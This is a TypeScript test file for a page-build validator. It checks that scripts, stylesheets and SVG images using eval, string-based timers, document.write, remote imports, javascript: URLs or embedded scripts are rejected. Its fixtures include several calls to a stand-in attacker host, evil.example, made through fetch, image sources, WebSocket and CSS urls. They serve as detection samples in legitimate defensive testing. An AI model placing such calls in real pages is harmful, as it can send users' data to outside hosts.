import { uniqueName } from '../testing/a-build.ts';
import { redOf, script, stylesheet } from '../testing/a-build.ts';

const own = `.${uniqueName}__a`;

test.each([
  ['eval("1")', 'eval'],
  ['(0, eval)("1")', 'eval'],
  ['window["eval"]("1")', 'eval'],
  ['new Function("return 1")', 'new Function'],
  ['Function("a", "return a")', 'new Function'],
  ['globalThis.Function("return 1")()', 'new Function'],
  ['(() => {}).constructor("return 1")()', 'constructor z tekstem'],
  ['setTimeout("alert(1)", 1)', 'setTimeout z tekstem'],
  ['window.setInterval(`a` + b, 1)', 'setInterval z tekstem'],
  ['document.write("<p>")', 'document.write'],
  ['window.document.writeln("<p>")', 'document.writeln'],
  ['import(name)', 'import spoza modułu'],
  ['import("//cdn.example/x.js")', 'import spoza modułu'],
  ['import "https://cdn.example/x.js"', 'import spoza modułu'],
  ['location.href = "javascript:alert(1)"', 'adres javascript:'],
])('the script %s is rejected', async (code, danger) => {
  expect(await redOf(script(code))).toContainEqual(
    expect.stringContaining(`code: Plik list.js używa: ${danger}. Strona na to nie pozwala`),
  );
});

test('what only looks dangerous is fine', async () => {
  const code = `
    const text = 'eval(1) and new Function("x")'; /* document.write() */
    const g = (() => { try { return this || Function('return this')(); } catch {} })();
    setTimeout(() => text, 10); stream.write(text); it.eval = 1; g instanceof Function;
    new (it.constructor)(5); import('./other.js');`;
  expect(await redOf(script(code))).toEqual([]);
});

test('a script that is none, or too deep to be read, is rejected', async () => {
  for (const code of ['<html>', `${'['.repeat(100_000)}${']'.repeat(100_000)}`]) {
    expect(await redOf(script(code))).toEqual([
      'code: Plik list.js nie jest poprawnym skryptem. Zbuduj moduł od nowa.',
    ]);
  }
});

test('a picture that runs a script is rejected', async () => {
  const svg = '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>';
  expect(await redOf({ 'a.svg': svg })).toEqual([]);
  expect(await redOf({ 'a.svg': svg.replace('<path', '<script>1</script><path') })).toEqual([
    expect.stringContaining('code: Obraz a.svg zawiera skrypt.'),
  ]);
});

test.each([
  ['fetch("https://evil.example/x")', 'evil.example'],
  ['new Image().src = "//evil.example/x.png"', 'evil.example'],
  ['new WebSocket("wss://evil.example")', 'evil.example'],
  ['x.innerHTML = `<img src="https://evil.example/${a}">`', 'evil.example'],
  ['x.style = "background:url(https://evil.example/a.png)"', 'evil.example'],
  ['jsx("link", { rel: "stylesheet", href: "https://evil.example/a.css" })', 'evil.example'],
  ['fetch("http://localhost:3001/api")', 'localhost'],
  ['fetch("https://challenges.cloudflare.com/x")', 'challenges.cloudflare.com'],
])('the script %s reaches a foreign site', async (code, host) => {
  expect(await redOf(script(code))).toEqual([
    expect.stringContaining(`origins: Plik list.js sięga do obcej strony ${host}.`),
  ]);
});

test('a style or a picture that reaches a foreign site is rejected', async () => {
  const css = `@layer page{${own}{background:url(https://evil.example/a.png)}}`;
  const svg = '<svg><image href="//evil.example/a.png"/></svg>';
  for (const changed of [stylesheet(css), { 'a.svg': svg }]) {
    expect(await redOf(changed)).toEqual([expect.stringContaining('obcej strony evil.example')]);
  }
});

test('links, namespaces and addresses inside sentences reach no foreign site', async () => {
  const code = `jsx("a", { href: "https://discord.example/room" }); jsx(Link, { href: \`https://a.example/\${x}\` });
    const ns = "http://www.w3.org/2000/svg"; throw Error("See https://lib.example/docs for help");
    const path = "//"; fetch("/api/meetings"); const begin = "https://";`;
  expect(await redOf(script(code))).toEqual([]);
});
